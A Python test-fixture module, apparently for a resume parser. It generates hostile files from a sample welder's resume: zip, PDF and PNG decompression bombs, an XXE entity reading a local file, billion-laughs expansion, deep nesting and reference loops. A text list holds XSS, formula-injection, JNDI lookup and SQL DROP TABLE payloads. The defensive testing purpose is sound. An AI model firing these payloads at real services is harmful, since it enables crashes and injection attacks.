"""Files made to hurt whoever reads them, each generated when it is asked for and never stored."""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

GIGA = 1 << 30
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RESUME = [
    "Mara Feldmann",
    "Welder, mara.feldmann@example.com",
    "Work experience",
    "Welder at Stahlbau Nord in Kiel from March 2015 to April 2022: pipes, tanks and bridges.",
    "Education",
    "Vocational school of Kiel, certificate in metal work, 2014",
    "Skills",
    "Arc welding, gas welding, reading technical drawings, safety at work",
]


# -- PDF ---------------------------------------------------------------------------------------------------------------


def pdf(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of the objects' bodies, numbered from 1, of which the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def written(rows: Sequence[str]) -> bytes:
    """A content stream that writes the rows in the font /F."""
    shown = b"".join(
        b"(%s) Tj T*\n" % row.encode("latin-1").replace(b"(", b"\\(").replace(b")", b"\\)") for row in rows
    )
    return b"BT /F 11 Tf 60 780 Td 16 TL\n" + shown + b"ET"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def one_page(content: bytes, *, box: bytes = b"0 0 595 842", pages: bytes = _PAGES, trailer: bytes = b"") -> bytes:
    """A PDF of one page. `content`: the body of its content stream's object; `pages`: that of the page tree's root."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>" % box
    return pdf([_CATALOGUE, pages, page, content, _FONT], trailer=trailer)


def truncated_pdf() -> bytes:
    return one_page(stream(written(_RESUME)))[:300]


def encrypted_pdf() -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("open-sesame", canPrint=0))
    for n, row in enumerate(_RESUME):
        canvas.drawString(60, 780 - 16 * n, row)
    canvas.save()
    return out.getvalue()


def pdf_of_5000_pages() -> bytes:
    count, first = 5000, 5
    kids = b" ".join(b"%d 0 R" % n for n in range(first, first + count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] /Contents 3 0 R /Resources << /Font << /F 4 0 R >> >> >>"
    )
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return pdf([_CATALOGUE, tree, stream(b"BT /F 9 Tf 9 40 Td (Resume) Tj ET"), _FONT, *[page] * count])


def pdf_of_60_mb() -> bytes:
    return one_page(stream(written(_RESUME))) + b"%" * (60 << 20)


def pdf_with_a_deep_page_tree() -> bytes:
    """10,000 nodes, each the only child of the one before."""
    depth, first = 10_000, 6
    node = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>"
    nodes = [node % (n + 1, n - 1 if n > first else 2) for n in range(first, first + depth)]
    nodes[-1] = node % (3, first + depth - 2)
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
    root = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % first
    return pdf([_CATALOGUE, root, page % (first + depth - 1), stream(written(_RESUME)), _FONT, *nodes])


def pdf_with_nested_arrays() -> bytes:
    """10,000 deep, in the catalogue, in the page's annotations and in its content."""
    deep = b"[" * 10_000 + b"]" * 10_000
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots %s /Resources << /Font << /F 5 0 R >> >> >>"
    content = stream(written(_RESUME) + b"\n" + deep + b" TJ\n" + b"q " * 10_000)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /Names %s >>" % deep, _PAGES, page % deep, content, _FONT])


def pdf_with_nested_dictionaries() -> bytes:
    deep = b"<< /A " * 10_000 + b"1" + b" >>" * 10_000
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /Names %s >>" % deep, _PAGES, b"<< /Type /Page /Parent 2 0 R >>"])


def pdf_with_a_form_that_draws_itself() -> bytes:
    """Two forms, each drawing the other three times."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> >>"
    forms = [stream(b"/X Do " * 3, form % other) for other in (7, 6)]
    return pdf([_CATALOGUE, _PAGES, page, stream(written(_RESUME) + b" /X Do"), _FONT, *forms])


def pdf_whose_xref_loops() -> bytes:
    """/Prev names the table it stands in."""
    plain = one_page(stream(written(_RESUME)))
    return one_page(stream(written(_RESUME)), trailer=b"/Prev %d" % plain.index(b"xref\n0 "))


def pdf_whose_page_tree_loops() -> bytes:
    return one_page(stream(written(_RESUME)), pages=b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>")


def pdf_whose_parents_loop() -> bytes:
    """The page inherits its box and its resources from a node whose parent is itself."""
    page = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"
    return pdf([_CATALOGUE, _PAGES.replace(b"/Count", b"/Parent 2 0 R /Count"), page, stream(written(_RESUME)), _FONT])


def pdf_whose_count_lies() -> bytes:
    """One page and a /Count of two thousand million."""
    return one_page(stream(written(_RESUME)), pages=_PAGES.replace(b"/Count 1", b"/Count 2000000000"))


def inflating(size: int, pattern: bytes = b" " * 65536) -> bytes:
    """Deflated bytes that inflate to about `size`: blocks of one mebibyte, all the same, without the right checksum."""
    packer = zlib.compressobj(9)
    header = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = pattern * max(1, (1 << 20) // len(pattern))
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # which forgets what came before
    return header + again * (size // len(block)) + packer.flush(zlib.Z_FINISH)


def pdf_bomb() -> bytes:
    """A content stream of 1 GB of spaces, twice deflated."""
    return one_page(stream(zlib.compress(inflating(GIGA)), b"/Filter [/FlateDecode /FlateDecode]"))


def pdf_of_endless_text() -> bytes:
    """A content stream of 100 MB that writes two million words on one page."""
    return one_page(
        stream(inflating(100 << 20, (b"BT /F 11 Tf 60 700 Td (endless words) Tj ET\n" * 2000)), b"/Filter /FlateDecode")
    )


def pdf_with_a_huge_page() -> bytes:
    return one_page(stream(b"1 1 1 rg " + written(_RESUME)), box=b"0 0 1000000000 1000000000")


def pdf_with_a_wrong_page() -> bytes:
    """A box without an area and with numbers beyond any integer."""
    return one_page(stream(written(_RESUME)), box=b"99999999999999999999999 -1e400 99999999999999999999999 nan")


def pdf_with_absurd_matrices() -> bytes:
    """Text of no size, of endless size, leaning over, and far from its page, among text that can be read."""
    rows = b"".join(b"(%s) Tj T*\n" % row.encode().replace(b"(", b"\\(") for row in _RESUME)
    digits = b"9" * 400
    odd = [
        b"0 0 0 0 0 0",
        b"1e38 0 0 1e38 0 0",
        b"%s 0 0 %s 9 9" % (digits, digits),
        b"1 0 0 1 %s -%s" % (digits, digits),
    ]
    odd += [
        b"99999999 0 0 99999999 0 0",
        b"1 0 99999999999 1 60 60",
        b"-1 0 0 -1 300 300",
        b"0.0000001 0 0 0.0000001 60 60",
    ]
    shown = b"".join(b"BT /F 11 Tf %s Tm (odd matrix) Tj ET\nBT /F %s Tf 60 60 Td (odd size) Tj ET\n" % (m, m.split()[0]) for m in odd)  # fmt: skip
    return one_page(stream(b"BT /F 11 Tf 60 780 Td 16 TL " + rows + b"ET\n" + shown))


def html_named_pdf() -> bytes:
    return f"<html><body>{''.join(f'<p>{row}</p>' for row in _RESUME)}</body></html>".encode()


def png_named_pdf() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (60, 80), 255).save(out, "PNG")
    return out.getvalue()


def png_bomb() -> bytes:
    """900 million pixels in a file of 120 kB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    side = (30_000).to_bytes(4, "big")
    header = chunk(b"IHDR", side + side + b"\x01\x00\x00\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", inflating(30_000 * 3751, b"\x00" * 3751)) + chunk(b"IEND", b"")
    )


# -- DOCX and ODT ------------------------------------------------------------------------------------------------------


def docx(body: bytes | str | None = None, *, before: str = "", members: dict[str, bytes] | None = None) -> bytes:
    """A DOCX of python-docx's template whose body is replaced. `before` goes ahead of the root; no body: no document.xml."""
    from docx import Document

    plain, out = io.BytesIO(), io.BytesIO()
    Document().save(plain)
    with zipfile.ZipFile(plain) as given, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for info in given.infolist():
            data = given.read(info)
            if info.filename == "word/document.xml":
                if body is None:
                    continue
                inside = body if isinstance(body, bytes) else body.encode()
                data = f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document {_WORD}><w:body>'.encode() + inside + b"</w:body></w:document>"  # fmt: skip
            made.writestr(info.filename, (members or {}).get(info.filename, data))
    return out.getvalue()


def paragraphs(rows: Sequence[str]) -> str:
    return "".join(f"<w:p><w:r><w:t>{row}</w:t></w:r></w:p>" for row in rows)


def docx_bomb() -> bytes:
    """A document.xml of 1 GB of spaces."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made, made.open("word/document.xml", "w", force_zip64=True) as part:  # fmt: skip
        for _ in range(GIGA >> 20):
            part.write(b" " * (1 << 20))
    return out.getvalue()


def docx_bomb_that_lies() -> bytes:
    """The same, with a directory that says it unpacks to 1,000 bytes."""
    data = bytearray(docx(b" " * (300 << 20) + paragraphs(_RESUME).encode()))
    at = data.index(b"word/document.xml", data.index(b"PK\x01\x02")) - 46
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    local = int.from_bytes(data[at + 42 : at + 46], "little")
    data[local + 22 : local + 26] = (1000).to_bytes(4, "little")
    return bytes(data)


def docx_with_an_external_entity() -> bytes:
    secret = Path(__file__).resolve().as_uri()
    before = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{secret}">]>'
    return docx(paragraphs([*_RESUME, "&x;"]), before=before)


def docx_with_a_billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(paragraphs([*_RESUME, "&l9;"]), before=f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{entities}]>')


def docx_without_a_document() -> bytes:
    return docx(None)


def docx_of_nested_tables() -> bytes:
    """5,000 tables, each in the cell of the one before."""
    return docx("<w:tbl><w:tr><w:tc>" * 5000 + paragraphs(_RESUME) + "</w:tc></w:tr></w:tbl>" * 5000)


def docx_of_nested_runs() -> bytes:
    return docx("<w:p>" + "<w:ins>" * 5000 + "<w:r><w:t>deep</w:t></w:r>" + "</w:ins>" * 5000 + "</w:p>")


def docx_of_nested_controls() -> bytes:
    """Within the 256 levels that libxml2 allows, and beyond what a generator in a generator takes quickly."""
    return docx("<w:sdt>" * 240 + paragraphs(_RESUME * 200) + "</w:sdt>" * 240)


def odt(content: str) -> bytes:
    kind = "application/vnd.oasis.opendocument.text"
    spaces = "".join(f' xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{p}:1.0"' for p in ("office", "text", "table", "manifest"))  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(zipfile.ZipInfo("mimetype"), kind)
        made.writestr("META-INF/manifest.xml", f'<manifest:manifest{spaces}><manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/></manifest:manifest>')  # fmt: skip
        made.writestr("content.xml", f"<office:document-content{spaces}><office:body><office:text>{content}</office:text></office:body></office:document-content>")  # fmt: skip
    return out.getvalue()


def odt_of_nested_sections() -> bytes:
    inside = "".join(f"<text:p>{row}</text:p>" for row in _RESUME)
    return odt("<text:section>" * 5000 + inside + "</text:section>" * 5000)


def odt_bomb() -> bytes:
    return odt("<text:p>" + " " * (250 << 20) + "</text:p>")


# -- text in its many forms --------------------------------------------------------------------------------------------


def text_of_nuls() -> bytes:
    return b"\x00" * 100_000


def text_of_nuls_further_on() -> bytes:
    return "\n".join(_RESUME).encode() + b"\n" + b" " * 5000 + b"\x00" * 100_000


def one_endless_line() -> bytes:
    return b"welder and fitter " * 100_000


def many_short_lines() -> bytes:
    return b"a\n" * 100_000


def rtf_of_nested_groups() -> bytes:
    return b"{\\rtf1 " + b"{" * 100_000 + " \\par ".join(_RESUME).encode() + b"}" * 100_000 + b"}"


def rtf_of_odd_numbers() -> bytes:
    """Half a surrogate pair, a character beyond the last, an argument of 5,000 digits."""
    rows = " \\par ".join(_RESUME).encode()
    return b"{\\rtf1 \\ansi \\u-10240 ? \\u99999999 ? \\uc" + b"9" * 5000 + b" " + rows + b"}"


def html_of_nested_divs() -> bytes:
    rows = "".join(f"<p>{row}</p>" for row in _RESUME)
    return f"<html><body>{'<div>' * 50_000}{rows}{'</div>' * 50_000}</body></html>".encode()


def html_of_nested_tables() -> bytes:
    deep = "<table><tr><td>" * 2000
    return f"<html><body>{deep}{''.join(f'<p>{row}</p>' for row in _RESUME)}</body></html>".encode()


def html_of_hostile_styles() -> bytes:
    """Style sheets on which a careless pattern runs for ever, or which are many."""
    sheet = (
        "@media"
        + "{" * 20_000
        + "/*" * 20_000
        + "a," * 20_000
        + "".join(f".c{n}{{color:red;float:right}}" for n in range(2000))
    )
    rows = "".join(f'<p class="{"c1 " * 50}">{row}</p>' for row in _RESUME * 10)
    return f"<html><head><style>{sheet}</style></head><body>{rows}</body></html>".encode()


def markdown_of_nested_quotes() -> bytes:
    return ("# Resume\n\n## Work\n\n" + ">" * 50_000 + " deep\n\n" + "\n".join(_RESUME) + "\n" + "[" * 50_000).encode()


def json_of_nested_lists() -> bytes:
    return b'{"basics": {}, "work": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def json_with_a_huge_number() -> bytes:
    return b'{"basics": {"name": "Mara Feldmann", "phone": ' + b"9" * 10_000 + b'}, "work": []}'


def json_with_half_a_pair() -> bytes:
    basics = {"name": "Mara \ud800 Feldmann", "summary": " ".join(_RESUME)}
    return json.dumps({"basics": basics, "work": [{"position": "Welder", "name": "Stahlbau \udfff"}]}).encode()


def json_of_wrong_shapes() -> bytes:
    return json.dumps({"basics": [1], "work": {"a": 3}, "skills": 7, "education": "none"}).encode()


HOSTILE_TEXT = [
    "<script>alert(1)</script> <img src=x onerror=alert(2)>",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "[red]rich[/red] [link=https://example.com]mark-up[/link]",
    "=cmd|' /C calc'!A0",
    "{{7*7}} ${jndi:ldap://example.com/a} %s%n '; DROP TABLE people; --",
    "\u202egnihtyreve\u202c \ufeff\u200b",
]


def resume_of_hostile_text() -> bytes:
    return "\n".join([*_RESUME, *HOSTILE_TEXT]).encode()


# Name of the file → what makes it, and what must be said of it; None where a document must come of it; "" for either.
FILES: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "zero.pdf": (bytes, r"the file is empty \(0 bytes\)"),
    "truncated.pdf": (truncated_pdf, "truncated PDF|not a readable PDF"),
    "encrypted.pdf": (encrypted_pdf, "encrypted; save it without a password"),
    "pages-5000.pdf": (pdf_of_5000_pages, "more than 200 pages"),
    "large.pdf": (pdf_of_60_mb, "larger than 50 MB"),
    "deep-tree.pdf": (pdf_with_a_deep_page_tree, ""),
    "deep-arrays.pdf": (pdf_with_nested_arrays, ""),
    "deep-dictionaries.pdf": (pdf_with_nested_dictionaries, ""),
    "form-loop.pdf": (pdf_with_a_form_that_draws_itself, ""),
    "xref-loop.pdf": (pdf_whose_xref_loops, ""),
    "tree-loop.pdf": (pdf_whose_page_tree_loops, ""),
    "parent-loop.pdf": (pdf_whose_parents_loop, ""),
    "count-lies.pdf": (pdf_whose_count_lies, ""),
    "bomb.pdf": (pdf_bomb, ""),
    "endless.pdf": (pdf_of_endless_text, ""),
    "huge-page.pdf": (pdf_with_a_huge_page, ""),
    "wrong-page.pdf": (pdf_with_a_wrong_page, ""),
    "matrices.pdf": (pdf_with_absurd_matrices, ""),
    "html.pdf": (html_named_pdf, None),
    "png.pdf": (png_named_pdf, "an image"),
    "bomb.png": (png_bomb, "an image"),
    "pdf.docx": (lambda: one_page(stream(written(_RESUME))), None),
    "bomb.docx": (docx_bomb, "unpacks to more than 200 MB"),
    "bomb-that-lies.docx": (docx_bomb_that_lies, ""),
    "entity.docx": (docx_with_an_external_entity, ""),
    "laughs.docx": (docx_with_a_billion_laughs, ""),
    "no-document.docx": (docx_without_a_document, "no DOCX|not a readable DOCX"),
    "nested-tables.docx": (docx_of_nested_tables, ""),
    "nested-runs.docx": (docx_of_nested_runs, ""),
    "nested-controls.docx": (docx_of_nested_controls, ""),
    "nested.odt": (odt_of_nested_sections, ""),
    "bomb.odt": (odt_bomb, "unpacks to more than 200 MB"),
    "nuls.txt": (text_of_nuls, "not a text, PDF or DOCX file"),
    "nuls-later.txt": (text_of_nuls_further_on, ""),
    "one-line.txt": (one_endless_line, ""),
    "short-lines.txt": (many_short_lines, ""),
    "nested.rtf": (rtf_of_nested_groups, ""),
    "numbers.rtf": (rtf_of_odd_numbers, ""),
    "nested.html": (html_of_nested_divs, ""),
    "nested-tables.html": (html_of_nested_tables, ""),
    "styles.html": (html_of_hostile_styles, ""),
    "nested.md": (markdown_of_nested_quotes, ""),
    "nested.json": (json_of_nested_lists, "next to no text"),
    "number.json": (json_with_a_huge_number, ""),
    "half-a-pair.json": (json_with_half_a_pair, None),
    "shapes.json": (json_of_wrong_shapes, "not a JSON Resume"),
    "markup.txt": (resume_of_hostile_text, None),
}
